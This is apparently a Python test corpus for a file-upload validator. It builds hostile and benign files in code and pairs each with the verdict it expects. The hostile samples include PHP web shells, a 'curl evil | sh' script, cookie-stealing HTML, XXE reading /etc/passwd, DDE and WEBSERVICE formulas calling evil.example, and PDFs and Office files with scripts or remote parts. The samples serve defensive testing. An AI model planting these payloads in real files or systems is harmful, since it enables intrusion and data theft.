"""The inspection corpus: hostile and benign files, each built in code, each with its verdict.

`ATTACKS` must all be rejected with their code, `BENIGN` must all be accepted.
`python -m tests.corpus` prints the table docs/internals/corpus.md shows.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from docx import Document
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas

from broker.domain.profiles import Profiles, load_profiles
from tests import writers
from tests.videos import box, encoded, streamed_webm, tiny_mp4

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SVG = "image/svg+xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# The shipped profiles, plus three that take SVG and one that neutralises CSV formulas.
_EXTRA_PROFILES = """
[drawing]
visibility = "private"
max_size = "1 MiB"
[drawing.types]
"image/svg+xml" = ["svg"]

[public_drawing]
visibility = "public"
max_size = "1 MiB"
[public_drawing.types]
"image/svg+xml" = ["svg"]

[sanitized_drawing]
visibility = "public"
max_size = "1 MiB"
sanitize_svg = true
[sanitized_drawing.types]
"image/svg+xml" = ["svg"]

[data]
visibility = "private"
max_size = "1 MiB"
[data.types]
"text/xml" = ["xml"]

[sheet]
visibility = "private"
max_size = "1 MiB"
csv_formulas = "neutralize"
[sheet.types]
"text/csv" = ["csv"]

[legacy_sheet]
visibility = "private"
max_size = "1 MiB"
text_encodings = ["utf-8", "utf-16", "windows-1252"]
[legacy_sheet.types]
"text/csv" = ["csv"]
"""


def corpus_profiles() -> Profiles:
    shipped = {p.name: p for p in load_profiles()}
    extra = {p.name: p for p in Profiles.from_toml(_EXTRA_PROFILES, "corpus")}
    return Profiles(shipped | extra)


@dataclass(frozen=True)
class Sample:
    """One file as a client would upload it, and what the validator must say."""

    name: str
    profile: str
    filename: str
    content_type: str
    build: Callable[[], bytes]
    expect: str | None  # a reason code, or None: accepted
    scanner: bool = False  # needs a real malware scanner
    encoder: bool = False  # made with ffmpeg

    def data(self) -> bytes:
        if self.encoder:  # skipped loudly without ffmpeg, and failed under CI
            from tests.conftest import require_system
            from tests.videos import FFMPEG_INSTALL, ffmpeg_installed

            require_system("ffmpeg", ffmpeg_installed(), FFMPEG_INSTALL)
        return self.build()


# -- building blocks -----------------------------------------------------------------

def image(fmt: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(out, fmt, **options)
    return out.getvalue()


def animated_gif(frames: int) -> bytes:
    out = io.BytesIO()
    colours = [(i % 256, (i * 37) % 256, (i * 91) % 256) for i in range(frames)]
    first, *rest = [Image.new("RGB", (16, 16), colour) for colour in colours]
    first.save(out, "GIF", save_all=True, append_images=rest, duration=40, loop=0)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_text(text: bytes) -> bytes:
    png = image("PNG")
    return png[:33] + png_chunk(b"tEXt", b"Comment\0" + text) + png[33:]  # after IHDR


def _srgb_profile() -> bytes:
    from PIL import ImageCms

    profile: bytes = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile


def _exif(orientation: int = 1, gps: bool = True) -> bytes:
    """EXIF as a phone writes it: an orientation and (by default) where the photo was taken."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
    return exif.tobytes()


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A few KiB that claim 400 megapixels: rows of zeros compress to almost nothing."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width // 8)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) \
        + png_chunk(b"IEND", b"")


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    png = image("PNG")
    return png[:33] + png_chunk(kind, data) + png[33:]  # after IHDR


def webp_with_chunk(kind: bytes, data: bytes) -> bytes:
    """A WebP with an extra RIFF chunk after the image (EXIF, XMP or one of no meaning)."""
    webp = image("WEBP")
    chunk = kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) & 1)
    body = webp[12:] + chunk
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def png_with_xmp() -> bytes:
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
           b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>'
           b'<?xpacket end="w"?>')
    return png_with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp)


def gif_with_comment(comment: bytes) -> bytes:
    gif = image("GIF")
    block = b"!\xfe" + bytes([len(comment)]) + comment + b"\0"  # one comment sub-block
    return gif[:-1] + block + gif[-1:]  # before the trailer


def jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = image("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def jar() -> bytes:
    return zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: A\n",
                   "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64})


def docx(text: str = "Quarterly report") -> bytes:
    document = Document()
    document.add_heading("Report", 1)
    document.add_paragraph(text)
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Revenue"
    table.cell(0, 1).text = "-1200"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["item", "amount"])
    sheet.append(["refund", -12.5])
    sheet.append(["total", "=SUM(B2:B2)"])  # formulas are normal inside a real workbook
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezipped(data: bytes, add: dict[str, bytes] | None = None,
             change: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """The same package with parts added or changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            target.writestr(info.filename, change(info.filename, body) if change else body)
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def docx_with_macros() -> bytes:
    return rezipped(docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})


def docm_content_type() -> bytes:
    return rezipped(docx(), change=lambda name, body: body.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
        if name == "[Content_Types].xml" else body)


def docx_remote_template() -> bytes:
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>")
    return rezipped(docx(), add={"word/_rels/settings.xml.rels": rels})


def xlsx_zip_bomb() -> bytes:
    return rezipped(xlsx(), add={"xl/media/padding.bin": b"\0" * (64 * 1024 * 1024)})


def xlsx_many_entries() -> bytes:
    return rezipped(xlsx(), add={f"xl/media/p{i}.xml": b"<a/>" for i in range(10_001)})


def ole_container() -> bytes:
    """The compound-file header password-protected Office files are stored in."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HH", 0x3E, 3) \
        + b"\xfe\xff" + b"\0" * 486


def reportlab_pdf() -> bytes:
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(72, 720, "Invoice 42: 3 items, total -12.50")
    page.linkURL("https://example.com/invoices/42", (72, 700, 300, 716))
    page.save()
    return out.getvalue()


def pdf_changed(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def pdf_open_javascript(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.alert('owned')"))


def pdf_launch_link(writer: PdfWriter) -> None:
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([]),
        NameObject("/A"): _action("/Launch", F=TextStringObject("cmd.exe")),
    })
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def pdf_page_open_action(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/URI", URI=TextStringObject("https://tracker.example"))})


def pdf_xfa(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([]), NameObject("/XFA"): TextStringObject("<xdp/>")})


def svg(body: str, head: str = "") -> bytes:
    return (f'{head}<svg xmlns="http://www.w3.org/2000/svg" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
            f"{body}</svg>").encode()


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]>')
XXE = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PE = b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\x4c\x01" + b"\0" * 300
ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 200
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60
HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script>" \
    b"</body></html>\n"
TEXT_70K = b"An ordinary line of report text.\n" * 2200


def csv_rows(*rows: str) -> bytes:
    return ("\r\n".join(rows) + "\r\n").encode()


PHP = b"<?php system($_GET['c']); ?>\n"
A, D, V = "avatar", "document", "video"

ATTACKS: list[Sample] = [
    # Spoofed types: the bytes are something else than the declaration.
    Sample("HTML page named .png", A, "x.png", "image/png", lambda: HTML, "type_mismatch"),
    Sample("Windows program named .jpg", A, "a.jpg", "image/jpeg", lambda: PE, "type_mismatch"),
    Sample("Linux program named .gif", A, "a.gif", "image/gif", lambda: ELF, "type_mismatch"),
    Sample("PHP script named .webp", A, "a.webp", "image/webp",
           lambda: b"<?php system($_GET['c']); ?>\n", "type_mismatch"),
    Sample("PNG named .pdf", D, "a.pdf", "application/pdf", lambda: image("PNG"),
           "type_mismatch"),
    Sample("shell script named .txt", D, "a.txt", "text/plain",
           lambda: b"#!/bin/sh\ncurl evil | sh\n", "type_mismatch"),
    Sample("HTML page named .csv", D, "a.csv", "text/csv", lambda: HTML, "type_mismatch"),
    Sample("plain ZIP named .docx", D, "a.docx", DOCX, lambda: zip_of({"a.txt": b"x"}),
           "type_mismatch"),
    Sample("Java archive named .xlsx", D, "a.xlsx", XLSX, jar, "type_mismatch"),
    Sample("Windows shortcut named .pdf", D, "a.pdf", "application/pdf", lambda: LNK,
           "type_mismatch"),
    Sample("SVG with script named .png", A, "a.png", "image/png",
           lambda: svg("<script>alert(1)</script>"), "type_mismatch"),
    Sample("script with an unknown interpreter as text", D, "a.txt", "text/plain",
           lambda: b"#!/opt/custom/runner\nrun everything\n", "forbidden_type"),
    # Polyglots: a valid file with another one hidden inside or after it.
    Sample("PNG with a ZIP appended", A, "a.png", "image/png",
           lambda: image("PNG") + zip_of({"shell.php": b"<?php ?>"}), "polyglot"),
    Sample("GIFAR: GIF with a Java archive appended", A, "a.gif", "image/gif",
           lambda: image("GIF") + jar(), "polyglot"),
    Sample("JPEG with PHP appended", A, "a.jpg", "image/jpeg",
           lambda: image("JPEG") + b"<?php system($_GET['c']); ?>", "polyglot"),
    Sample("WebP with HTML appended", A, "a.webp", "image/webp",
           lambda: image("WEBP") + HTML, "polyglot"),
    Sample("PNG with PHP in a text chunk", A, "a.png", "image/png",
           lambda: png_with_text(b"<?php eval($_POST['x']); ?>"), "polyglot"),
    Sample("JPEG with script in its comment", A, "a.jpg", "image/jpeg",
           lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot"),
    # Script hidden in every kind of metadata: private and unknown chunks, compressed text.
    Sample("PHP in a private PNG chunk", A, "a.png", "image/png",
           lambda: png_with_chunk(b"phPp", b"<?php system($_GET['c']); ?>"), "polyglot"),
    Sample("ASP in an unknown PNG chunk", A, "a.png", "image/png",
           lambda: png_with_chunk(b"ruNs", b"<%@ Page Language=\"C#\" %>"), "polyglot"),
    Sample("script in a compressed PNG zTXt chunk", A, "a.png", "image/png",
           lambda: png_with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(
               b"<script>fetch('//evil.example')</script>")), "polyglot"),
    Sample("PHP in a compressed PNG iTXt chunk", A, "a.png", "image/png",
           lambda: png_with_chunk(b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(
               b"<?= `id` ?>")), "polyglot"),
    Sample("JSP in a compressed PNG ICC profile", A, "a.png", "image/png",
           lambda: png_with_chunk(b"iCCP", b"icc\0\0" + zlib.compress(
               b"<jsp:scriptlet>Runtime.getRuntime()</jsp:scriptlet>")), "polyglot"),
    Sample("PHP in a WebP EXIF chunk", A, "a.webp", "image/webp",
           lambda: webp_with_chunk(b"EXIF", b"<?php passthru($_GET[0]); ?>"), "polyglot"),
    Sample("HTML in an unknown WebP chunk", A, "a.webp", "image/webp",
           lambda: webp_with_chunk(b"ZZZZ", b"<html><body onload=alert(1)>"), "polyglot"),
    Sample("PHP short tag in a GIF comment", A, "a.gif", "image/gif",
           lambda: gif_with_comment(b"<? system($_GET['c']); ?>"), "polyglot"),
    Sample("server-side include in a JPEG comment", A, "a.jpg", "image/jpeg",
           lambda: jpeg_with_comment(b'<!--#exec cmd="id" -->'), "polyglot"),
    Sample("PDF with a ZIP after %%EOF", D, "a.pdf", "application/pdf",
           lambda: reportlab_pdf() + zip_of({"x.exe": PE}), "polyglot"),
    # Bombs and broken files.
    Sample("PNG claiming 400 megapixels", A, "a.png", "image/png", png_bomb,
           "decompression_bomb"),
    Sample("GIF with 150 frames", A, "a.gif", "image/gif", lambda: animated_gif(150),
           "too_many_frames"),
    Sample("truncated PNG", A, "a.png", "image/png", lambda: image("PNG", (300, 300))[:-200],
           "malformed"),
    Sample("truncated JPEG", A, "a.jpg", "image/jpeg",
           lambda: image("JPEG", (300, 300))[:1500], "malformed"),
    Sample("XLSX hiding 64 MiB of zeros", D, "a.xlsx", XLSX, xlsx_zip_bomb,
           "decompression_bomb"),
    Sample("XLSX with 10,001 parts", D, "a.xlsx", XLSX, xlsx_many_entries,
           "decompression_bomb"),
    Sample("PDF that does not parse", D, "a.pdf", "application/pdf",
           lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R\nendobj\n%%EOF\n",
           "malformed"),
    # SVG that can run script or reach out.
    Sample("SVG <script>", "drawing", "a.svg", SVG,
           lambda: svg("<script>alert(1)</script>"), "active_content"),
    Sample("SVG onload handler", "drawing", "a.svg", SVG,
           lambda: svg('<rect width="5" height="5" onload="alert(1)"/>'), "active_content"),
    Sample("SVG foreignObject with HTML", "drawing", "a.svg", SVG,
           lambda: svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
                       '<iframe src="https://evil.example"/></body></foreignObject>'),
           "active_content"),
    Sample("SVG javascript: link, split by a tab", "drawing", "a.svg", SVG,
           lambda: svg('<a xlink:href="java&#x09;script:alert(1)"><text>hi</text></a>'),
           "active_content"),
    Sample("SVG data: image", "drawing", "a.svg", SVG,
           lambda: svg('<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>'),
           "active_content"),
    Sample("SVG external <use>", "drawing", "a.svg", SVG,
           lambda: svg('<use href="https://evil.example/sprite.svg#x"/>'), "active_content"),
    Sample("SVG style importing a remote sheet", "drawing", "a.svg", SVG,
           lambda: svg("<style>@import url(https://evil.example/x.css);</style>"),
           "active_content"),
    Sample("SVG <set> that turns a link into javascript:", "drawing", "a.svg", SVG,
           lambda: svg('<a><set attributeName="href" to="javascript:alert(1)"/>'
                       '<text>x</text></a>'), "active_content"),
    Sample("SVG billion laughs", "drawing", "a.svg", SVG,
           lambda: svg("<text>&d;</text>", BILLION_LAUGHS), "malformed"),
    Sample("SVG external entity (XXE)", "drawing", "a.svg", SVG,
           lambda: svg("<text>&x;</text>", XXE), "malformed"),
    Sample("XHTML page with script as XML", "data", "a.xml", "text/xml",
           lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
                   b"<body><script>alert(1)</script></body></html>", "active_content"),
    Sample("XML with an XInclude of a remote file", "data", "a.xml", "text/xml",
           lambda: b'<?xml version="1.0"?><data xmlns:xi="http://www.w3.org/2001/XInclude">'
                   b'<xi:include href="https://evil.example/x.xml"/></data>', "active_content"),
    Sample("inert SVG in a public profile without sanitizing", "public_drawing", "a.svg", SVG,
           lambda: svg('<circle r="4" fill="red"/>'), "type_not_allowed"),
    # PDF that runs, launches or carries things.
    Sample("PDF running JavaScript on open", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(pdf_open_javascript), "active_content"),
    Sample("PDF link that launches a program", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(pdf_launch_link), "active_content"),
    Sample("PDF page with an automatic action", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(pdf_page_open_action), "active_content"),
    Sample("PDF carrying an embedded program", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(lambda w: w.add_attachment("invoice.exe", PE)),
           "active_content"),
    Sample("PDF with an XFA form", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(pdf_xfa), "active_content"),
    Sample("password-protected PDF", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(lambda w: w.encrypt("secret")), "encrypted"),
    # Office documents with macros or remote parts.
    Sample("DOCX with a VBA project", D, "a.docx", DOCX, docx_with_macros, "active_content"),
    Sample("DOCM content type named .docx", D, "a.docx", DOCX, docm_content_type,
           "active_content"),
    Sample("DOCX with a remote template", D, "a.docx", DOCX, docx_remote_template,
           "active_content"),
    Sample("password-protected DOCX (OLE container)", D, "a.docx", DOCX, ole_container,
           "encrypted"),
    # Text and CSV.
    Sample("CSV with =HYPERLINK", D, "a.csv", "text/csv",
           lambda: csv_rows("name,link", 'x,"=HYPERLINK(""https://evil.example"",""x"")"'),
           "formula_injection"),
    Sample("CSV with a DDE command", D, "a.csv", "text/csv",
           lambda: csv_rows("a,b", "-2+3+cmd|' /C calc'!A0,1"), "formula_injection"),
    Sample("CSV with @SUM", D, "a.csv", "text/csv", lambda: csv_rows("a", "@SUM(1+1)"),
           "formula_injection"),
    Sample("CSV cell starting with a tab", D, "a.csv", "text/csv",
           lambda: csv_rows("a,b", "1,\t=1+1"), "formula_injection"),
    # A spreadsheet picks the delimiter: by locale, by detection, or as the file declares.
    Sample("semicolon CSV with a formula", D, "a.csv", "text/csv",
           lambda: csv_rows("name;total", "x;=SUM(A1:A9)"), "formula_injection"),
    Sample("tab-separated CSV with a formula", D, "a.csv", "text/csv",
           lambda: csv_rows("name\ttotal", "x\t+cmd|' /C calc'!A0"), "formula_injection"),
    Sample("pipe-separated CSV with a formula", D, "a.csv", "text/csv",
           lambda: csv_rows("a|b", "1|@SUM(1+1)"), "formula_injection"),
    Sample("CSV declaring its own delimiter (sep=~)", D, "a.csv", "text/csv",
           lambda: csv_rows("sep=~", "a~b", "1~=HYPERLINK(\"https://evil.example\")"),
           "formula_injection"),
    Sample("semicolon CSV with a quoted formula", D, "a.csv", "text/csv",
           lambda: csv_rows("a;b", '1;"-2+3+cmd|\' /C calc\'!A0"'), "formula_injection"),
    Sample("formula after a 200 KiB field", D, "a.csv", "text/csv",
           lambda: csv_rows("a,b", "x" * 200_000 + ",=1+1"), "formula_injection"),
    Sample("Latin-1 text", D, "a.txt", "text/plain",
           lambda: "café, naïve, façade\n".encode("latin-1") * 4, "invalid_text"),
    Sample("UTF-16 text without a byte order mark", D, "a.txt", "text/plain",
           lambda: "hello wörld\n".encode("utf-16-le") * 4, "type_mismatch"),
    Sample("UTF-32 CSV", D, "a.csv", "text/csv", lambda: writers.csv_as("utf-32"),
           "invalid_text"),
    Sample("Windows-1252 CSV where the profile takes UTF only", D, "a.csv", "text/csv",
           lambda: writers.csv_as("cp1252"), "invalid_text"),
    Sample("UTF-16 CSV with a formula", D, "a.csv", "text/csv",
           lambda: writers.csv_as("utf-16", "a,b\r\n=HYPERLINK(\"https://evil.example\")\r\n"),
           "formula_injection"),
    Sample("Windows-1252 CSV with a formula", "legacy_sheet", "a.csv", "text/csv",
           lambda: writers.csv_as("cp1252", "Zoë;=cmd|' /C calc'!A0\r\n"), "formula_injection"),
    Sample("text with a NUL byte past the first 64 KiB", D, "a.txt", "text/plain",
           lambda: TEXT_70K + b"\0tail\n", "invalid_text"),
    # Videos: spoofed, truncated, with something riding along.
    Sample("HTML page named .mp4", V, "a.mp4", "video/mp4", lambda: HTML, "type_mismatch"),
    Sample("ZIP named .webm", V, "a.webm", "video/webm", lambda: zip_of({"a.txt": b"x"}),
           "type_mismatch"),
    Sample("MP4 cut off in its media", V, "a.mp4", "video/mp4",
           lambda: encoded("mp4")[:len(encoded("mp4")) * 2 // 3], "malformed", encoder=True),
    Sample("WebM cut off in a cluster", V, "a.webm", "video/webm",
           lambda: encoded("webm")[:len(encoded("webm")) - 300], "malformed", encoder=True),
    Sample("MP4 with a ZIP appended", V, "a.mp4", "video/mp4",
           lambda: encoded("mp4") + zip_of({"run.sh": b"#!/bin/sh\n"}), "polyglot",
           encoder=True),
    Sample("MP4 with HTML appended", V, "a.mp4", "video/mp4",
           lambda: encoded("mp4-faststart") + HTML, "polyglot", encoder=True),
    Sample("WebM with a PHP script appended", V, "a.webm", "video/webm",
           lambda: encoded("webm") + PHP, "polyglot", encoder=True),
    Sample("Matroska named .webm", V, "a.webm", "video/webm", lambda: encoded("mkv"),
           "type_mismatch", encoder=True),
    Sample("QuickTime named .mp4", V, "a.mp4", "video/mp4", lambda: encoded("mov"),
           "type_mismatch", encoder=True),
    Sample("MP4 with no movie box", V, "a.mp4", "video/mp4",
           lambda: tiny_mp4(boxes=[box(b"mdat", bytes(4000))]), "malformed"),
    Sample("MP4 with two movie boxes", V, "a.mp4", "video/mp4",
           lambda: tiny_mp4(boxes=[box(b"moov", bytes(50)), box(b"moov", bytes(50)),
                                   box(b"mdat", bytes(100))]), "malformed"),
    Sample("MP4 with an unknown brand", V, "a.mp4", "video/mp4",
           lambda: tiny_mp4(brand=b"evil"), "type_mismatch"),
    Sample("MP4 with a box smaller than its header", V, "a.mp4", "video/mp4",
           lambda: tiny_mp4(boxes=[box(b"moov", bytes(50)), b"\0\0\0\4free"]), "malformed"),
    Sample("MP4 with a box claiming 4 GiB", V, "a.mp4", "video/mp4",
           lambda: tiny_mp4(boxes=[box(b"moov", bytes(50)),
                                   struct.pack(">I4s", 2**32 - 1, b"mdat") + bytes(100)]),
           "malformed"),
    # What real files showed: attachments anywhere in a PDF.
    Sample("PDF with a program in a file attachment annotation", D, "a.pdf",
           "application/pdf", lambda: writers.pdf_attachment_annotation(PE, "setup.exe"),
           "active_content"),
    Sample("PDF with a web page in a file attachment annotation", D, "a.pdf",
           "application/pdf", lambda: writers.pdf_attachment_annotation(HTML, "open.html"),
           "active_content"),
    Sample("PDF with an embedded file stream nothing points to", D, "a.pdf",
           "application/pdf", lambda: writers.pdf_orphan_embedded_file(PE), "active_content"),
    Sample("PDF with an attachment added in an incremental update", D, "a.pdf",
           "application/pdf", lambda: writers.pdf_updated(writers.attach(PE, "x.exe")),
           "active_content"),
    Sample("PDF whose later revision hides an earlier attachment", D, "a.pdf",
           "application/pdf", lambda: writers.pdf_updated(writers.attach(PE, "x.exe"),
                                                          writers.drop_attachments),
           "active_content"),
    Sample("PDF with JavaScript inside a compressed object stream", D, "a.pdf",
           "application/pdf", lambda: writers.pdf_object_stream(
               b"<< /S /JavaScript /JS (app.alert(1)) >>"), "active_content"),
    Sample("PDF behind an owner password that runs a script", D, "a.pdf", "application/pdf",
           writers.pdf_owner_password_with_javascript, "active_content"),
    Sample("PDF with arrays nested 5,000 deep", D, "a.pdf", "application/pdf",
           writers.pdf_deep_nesting, "malformed"),
    # Office files that act on opening or fetch from elsewhere, in any part.
    Sample("DOCX with a DDEAUTO field split over runs", D, "a.docx", DOCX,
           lambda: writers.docx_with_field([" DDE", "AUTO c:\\windows\\system32\\cmd.exe",
                                            ' "/k calc.exe" ']), "active_content"),
    Sample("DOCX with a DDE field in a header", D, "a.docx", DOCX,
           lambda: writers.docx_with_field([' DDE cmd "/c calc" '], part="word/header1.xml"),
           "active_content"),
    Sample("DOCX with a simple DDE field", D, "a.docx", DOCX,
           lambda: writers.docx_with_simple_field(' DDEAUTO cmd "/c calc" '), "active_content"),
    Sample("DOCX that includes a remote picture", D, "a.docx", DOCX,
           lambda: writers.docx_with_field([' INCLUDEPICTURE "https://evil.example/p.png" ']),
           "active_content"),
    Sample("DOCX with an external image relationship", D, "a.docx", DOCX,
           lambda: writers.docx_with_relationship("image", "https://evil.example/p.png"),
           "active_content"),
    Sample("XLSX with a DDE formula", D, "a.xlsx", XLSX,
           lambda: writers.xlsx_workbook("=cmd|'/c calc'!A0"), "active_content"),
    Sample("XLSX with a WEBSERVICE formula", D, "a.xlsx", XLSX,
           lambda: writers.xlsx_workbook('=WEBSERVICE("https://evil.example/?"&A1)'),
           "active_content"),
    Sample("XLSX linked to a workbook on an SMB share", D, "a.xlsx", XLSX,
           lambda: writers.xlsx_with_external_link("file:///\\\\evil\\share\\book.xlsx"),
           "active_content"),
    Sample("XLSX linked to a workbook on a web server", D, "a.xlsx", XLSX,
           lambda: writers.xlsx_with_external_link("https://evil.example/book.xlsx"),
           "active_content"),
    Sample("XLSX with a DDE link part", D, "a.xlsx", XLSX, writers.xlsx_with_dde_link,
           "active_content"),
    Sample("DOCX from Word for Mac declared as XLSX", D, "a.xlsx", XLSX,
           writers.mac_word_docx, "type_mismatch"),
    # SVG: processing instructions and DTDs.
    Sample("SVG with a remote xml-stylesheet", "drawing", "a.svg", SVG,
           lambda: writers.svg_with_prolog(
               '<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>'),
           "active_content"),
    Sample("SVG with a remote xml-stylesheet, sanitizing profile", "sanitized_drawing",
           "a.svg", SVG, lambda: writers.svg_with_prolog(
               '<?xml-stylesheet href="https://evil.example/x.css"?>'), "active_content"),
    Sample("SVG with a PHP processing instruction", "drawing", "a.svg", SVG,
           lambda: writers.svg_with_prolog("<?php system($_GET['c']); ?>"), "active_content"),
    Sample("SVG whose internal subset adds an onload attribute", "drawing", "a.svg", SVG,
           lambda: writers.svg_with_prolog(
               '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'), "malformed"),
    Sample("SVG naming a DTD on another host", "drawing", "a.svg", SVG,
           lambda: writers.svg_with_prolog('<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'),
           "active_content"),
    # Images: a page in an XML-looking metadata block is still a page.
    Sample("JPEG with an HTML page in its Photoshop segment", A, "a.jpg", "image/jpeg",
           lambda: writers.jpeg_with_app_segment(0xED, b"Photoshop 3.0\0<!DOCTYPE html><p>"),
           "polyglot"),
    Sample("JPEG with NUL padding, then a PHP script", A, "a.jpg", "image/jpeg",
           lambda: image("JPEG") + b"\0" * 64 + PHP, "polyglot"),
    Sample("XHTML page saved as a .txt", D, "a.txt", "text/plain",
           lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
                   b"<script>alert(1)</script></body></html>", "type_mismatch"),
    Sample("JPEG with script inside its XMP", A, "a.jpg", "image/jpeg",
           lambda: writers.xmp_jpeg(b"<script>alert(1)</script>"), "polyglot"),
    # Containers whose inner sizes do not hold together.
    Sample("Matroska with an element overrunning its parent", V, "a.mkv", "video/x-matroska",
           lambda: writers.matroska_with_child(0x4D80, b"writer", child_size=400), "malformed"),
    Sample("Matroska with a tag overrunning its parent two levels down", V, "a.mkv",
           "video/x-matroska", lambda: writers.matroska_with_child(
               0x7373, writers.ebml_element(0x63C0, b"", size=90)), "malformed"),
    Sample("MP4 with a track box overrunning the movie box", V, "a.mp4", "video/mp4",
           lambda: tiny_mp4(boxes=[box(b"moov", struct.pack(">I4s", 500, b"trak")
